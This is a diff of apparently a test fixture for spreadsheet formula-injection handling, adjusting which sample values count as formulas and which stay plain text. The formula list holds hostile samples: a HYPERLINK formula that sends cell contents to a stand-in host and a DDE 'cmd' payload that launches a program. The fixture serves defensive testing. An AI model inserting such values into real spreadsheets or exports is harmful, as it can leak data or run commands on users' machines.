@@ -178,12 +178,14 @@ COMPUTED = [
     '=HYPERLINK("http://x.example?"&A1,"open")',
     "@SUM(1)",
     "+1+cmd|' /C calc'!A0",
-    "-2+3",
+    '-HYPERLINK("http://x.example")',
     "\t=1",
     "\r=1",
     "=1,2;3",
 ]
 KEPT = [
+    "-Legal",
+    "-2+3",
     "-1,234.50",
     "+49 30 1234",
     "-5 %",
